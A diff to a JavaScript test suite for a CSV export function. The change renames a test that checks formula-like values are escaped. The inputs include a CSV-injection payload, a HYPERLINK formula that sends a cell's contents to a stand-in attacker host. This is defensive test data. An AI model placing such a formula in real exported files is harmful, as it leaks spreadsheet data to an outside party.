@@ -37,7 +37,7 @@ describe('toCsv', () => {
     '\n=1',
     '＝1+1',
     '=HYPERLINK("https://evil.example?"&A1,"here")',
-  ])('makes a text of %j, which would be a formula', (value) => {
+  ])('escapes %j, which would be a formula', (value) => {
     expect(one(value)?.replace(/^"/, '').startsWith("'")).toBe(true);
   });
 });
